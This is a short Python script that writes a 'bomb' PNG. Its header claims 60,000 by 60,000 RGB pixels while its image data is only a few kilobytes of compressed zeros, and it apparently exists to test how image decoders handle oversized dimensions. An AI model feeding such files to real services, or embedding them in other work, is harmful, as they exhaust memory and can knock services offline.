#!/usr/bin/env python3
"""Writes a PNG whose header claims far more pixels than anyone should decode: bomb.py > bomb.png"""
import struct
import sys
import zlib


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
sys.stdout.buffer.write(
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", header)
    + chunk(b"IDAT", zlib.compress(bytes(4096), 9))
    + chunk(b"IEND", b"")
)
